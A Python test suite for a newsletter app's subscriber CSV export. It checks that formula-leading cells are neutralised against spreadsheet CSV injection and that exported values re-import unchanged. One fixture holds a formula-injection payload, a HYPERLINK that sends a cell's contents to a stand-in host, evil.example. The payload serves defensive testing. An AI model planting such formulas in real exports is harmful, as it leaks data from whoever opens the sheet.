"""CSV export is safe to open in a spreadsheet (OWASP CSV injection) and still re-imports to the
very values it wrote, on both databases."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from nashra.runtime import Runtime
from nashra.store import subscribers as db
from nashra.subscribers import add_subscriber
from nashra.subscribers.csvcells import neutralise, restore
from nashra.subscribers.csvio import export_csv, import_csv

NOW = datetime(2026, 11, 30, 6, 0, tzinfo=UTC)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _exported_rows(runtime: Runtime, list_name: str | None = None) -> tuple[str, list[dict[str, str]]]:
    out = io.StringIO(newline="")
    with runtime.store.connect() as conn:
        export_csv(conn, out, list_name=list_name)
    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_export_neutralises_a_formula_in_every_field(make_runtime: Callable[[str], Runtime]) -> None:
    runtime = make_runtime("")
    with runtime.store.begin() as conn:
        add_subscriber(
            conn,
            "=cmd@example.com",
            now=NOW,
            name='=HYPERLINK("https://evil.example/?leak="&A2,"اضغط")',
            digests=["+daily"],
            list_name="@staff",
            consent_source="-2+3",
        )
    _, rows = _exported_rows(runtime)
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A2,"اضغط")'
    assert row["email"] == "'=cmd@example.com"
    assert row["digests"] == "'+daily"
    assert row["lists"] == "'@staff"
    assert row["consent_source"] == "'-2+3"
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS), cell


def test_export_reimports_the_values_it_wrote(make_runtime: Callable[[str], Runtime], tmp_path: Path) -> None:
    names = ['=HYPERLINK("x")', "+1", "-", "@x", "سمير بن علي", "'quoted", "'=x", "''+1", "a=b", "=== ليلى"]
    runtime = make_runtime("")
    with runtime.store.begin() as conn:
        for number, name in enumerate(names):
            add_subscriber(conn, f"r{number}@example.com", now=NOW, name=name, consent_source="-web")
    text, _ = _exported_rows(runtime)
    path = tmp_path / "out.csv"
    path.write_text(text, encoding="utf-8", newline="")
    with runtime.store.begin() as conn:  # overwrite, so the import has to put every name back
        for number in range(len(names)):
            add_subscriber(conn, f"r{number}@example.com", now=NOW, name="placeholder")
    report = import_csv(runtime.store.begin, path, now=NOW)
    assert report.errors == [] and report.updated == len(names)
    with runtime.store.connect() as conn:
        found = [db.find_subscriber(conn, f"r{n}@example.com") for n in range(len(names))]
    assert [s.name if s else None for s in found] == names


# Names import accepts: no control characters but tab, no line breaks (the import refuses those,
# test_subscribers_csv_import.py); CR as a formula start is covered by the cell property below.
_names = (
    st.text(
        alphabet=st.one_of(
            st.sampled_from("=+-@'\t\"، ,;"),
            st.characters(min_codepoint=0x0621, max_codepoint=0x064A),
            st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")),
        ),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=500)
@given(cell=st.text(alphabet=st.sampled_from("=+-@'\t\rxس "), max_size=6) | st.text())
def test_cell_codec_is_safe_and_reversible(cell: str) -> None:
    assert not neutralise(cell).startswith(FORMULA_STARTS)
    assert restore(neutralise(cell)) == cell


def test_round_trip_property(make_runtime: Callable[[str], Runtime], tmp_path: Path) -> None:
    """One database for every example: each example uses a list and addresses of its own."""
    runtime = make_runtime("")
    batches = itertools.count()

    @settings(max_examples=20, deadline=None)
    @given(names=st.lists(_names, min_size=1, max_size=5))
    def check(names: list[str]) -> None:
        batch = next(batches)
        list_name = f"batch-{batch}"
        starts = itertools.cycle("=+-'a")
        addresses = [f"{next(starts)}p{batch}x{n}@example.com" for n in range(len(names))]
        with runtime.store.begin() as conn:
            for address, name in zip(addresses, names, strict=True):
                add_subscriber(conn, address, now=NOW, name=name, list_name=list_name)
        text, rows = _exported_rows(runtime, list_name)
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(FORMULA_STARTS), cell
        path = tmp_path / f"{list_name}.csv"
        path.write_text(text, encoding="utf-8", newline="")
        with runtime.store.begin() as conn:
            for address in addresses:
                add_subscriber(conn, address, now=NOW, name="placeholder", list_name=list_name)
        report = import_csv(runtime.store.begin, path, list_name=list_name, now=NOW)
        assert report.errors == []
        with runtime.store.connect() as conn:
            found = [db.find_subscriber(conn, address) for address in addresses]
        assert [(s.email, s.name) if s else None for s in found] == list(zip(addresses, names, strict=True))

    check()
